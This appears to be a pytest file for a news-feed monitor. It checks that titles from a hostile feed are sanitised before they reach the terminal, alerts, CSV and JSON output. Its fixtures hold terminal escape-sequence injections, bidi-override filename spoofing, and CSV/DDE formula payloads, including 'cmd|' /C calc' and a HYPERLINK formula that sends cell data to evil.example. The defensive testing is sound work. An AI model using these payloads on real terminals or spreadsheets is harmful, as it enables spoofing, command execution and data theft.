"""Hostile titles: escape sequences, control characters and bidi overrides never reach a terminal or an
alert; CSV cells never start a spreadsheet formula; JSON keeps the text exactly as the feed gave it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from monitor.untrusted import csv_cell, printable
from tests.adversarial.hostile import LocalServer, http_server
from tests.factory import recent, run_cli, write_config
from tests.webhook import WebhookServer, webhook_server

__all__ = ["http_server", "webhook_server"]

ESC = "\x1b"
HOSTILE_TITLES = [
    f"{ESC}]0;owned{ESC}\\Wescam {ESC}[2J{ESC}[31mred{ESC}[0m",  # window title, clear screen, colour
    f"Wescam {ESC}]8;;http://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\ here",  # a hidden hyperlink
    "Wescam \x9b6n C1 query \x07bell\rcarriage",  # C1 CSI asking the terminal to answer, BEL, CR
    "Wescam \u202etxt.exe\u202c and \u2066isolate\u2069 \u200fmark",  # bidi override, isolate, mark
    '=HYPERLINK("http://evil.example/?"&A1,"Wescam")',
    "+cmd|' /C calc'!A0 Wescam",
    "-2+3+cmd|' /C calc'!A0 Wescam",
    "@SUM(1+1)*cmd|' /C calc'!A0 Wescam",
    "\t=1+1 Wescam",
]
FORBIDDEN = [ESC, "\x9b", "\x07", "\r", "\u202e", "\u202c", "\u2066", "\u2069", "\u200f"]


def serve_hostile_feed(server: LocalServer) -> str:
    items = [
        {
            "id": str(number),
            "url": server.url(f"/story/{number}"),
            "title": title,
            "content_text": "A Wescam turret.",
            "date_published": recent().isoformat(),
        }
        for number, title in enumerate(HOSTILE_TITLES)
    ]
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Hostile", "items": items}
    return server.route(
        "/feed.json", body=json.dumps(feed).encode(), headers={"Content-Type": "application/feed+json"}
    )


def test_hostile_titles_reach_no_terminal_no_alert_and_no_spreadsheet_formula(
    tmp_path: Path, http_server: LocalServer, webhook_server: WebhookServer
) -> None:
    config = write_config(
        tmp_path,
        feeds=[{"name": "hostile", "url": serve_hostile_feed(http_server), "fulltext": False}],
        watchlists=[{"name": "arms", "terms": ["Wescam"], "notify": ["console", "chat"]}],
        notifiers=[{"name": "console"}, {"name": "chat", "urls": [webhook_server.apprise_url("/hook")]}],
    )
    poll = run_cli(config, "poll")
    assert poll.returncode == 0, poll.stderr
    shown = [
        poll.stdout + poll.stderr,  # the console notifier's alerts are in the log
        run_cli(config, "hits").stdout,
        run_cli(config, "hits", "--query", "Wescam").stdout,
        run_cli(config, "deliveries").stdout,
        json.dumps([p.json for p in webhook_server.posts], ensure_ascii=False),
    ]
    assert "owned" not in shown[0] and "http://evil.example/\x1b" not in shown[1]
    for text in shown:
        assert [c for c in FORBIDDEN if c in text] == []
    assert "txt.exe" in shown[0] and "here" in shown[1]  # the text itself is kept

    rows = list(csv.DictReader(io.StringIO(run_cli(config, "hits", "--format", "csv").stdout)))
    assert len(rows) == len(HOSTILE_TITLES)
    for row in rows:
        assert not row["title"].startswith(("=", "+", "-", "@", "\t", "\r")), row["title"]
        assert [c for c in FORBIDDEN if c in row["title"]] == []
    assert {row["title"] for row in rows} >= {"'" + t for t in HOSTILE_TITLES[4:8]}

    faithful = [
        json.loads(line)["title"] for line in run_cli(config, "hits", "--format", "json").stdout.splitlines()
    ]
    assert sorted(faithful) == sorted(
        " ".join(t.split()) for t in HOSTILE_TITLES
    )  # as the feed reader left them


@pytest.mark.parametrize("code", [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)])
def test_every_control_character_but_tab_and_newline_is_dropped(code: int) -> None:
    text = f"ab{chr(code)}"
    expected = text if chr(code) in "\t\n" else ("ab " if code == 0x85 else "ab")
    assert printable(text) == expected


@pytest.mark.parametrize("code", [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C])
def test_every_bidi_control_is_dropped(code: int) -> None:
    assert printable(f"abc{chr(code)}def") == "abcdef"


def test_letters_of_every_script_stay() -> None:
    text = "Türkiye'ye İHA — 无人机 — طائرة مسيرة — כטב״ם — 🚁\tok\nnext"
    assert printable(text) == text


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'=1"),  # neutralised, and the carriage return dropped
        ("  =1", "'  =1"),
        ("a=1", "a=1"),
        ("Wescam - Baykar", "Wescam - Baykar"),
        ("", ""),
    ],
)
def test_csv_cells_that_would_be_formulas_start_with_a_quote(cell: str, expected: str) -> None:
    assert csv_cell(cell) == expected
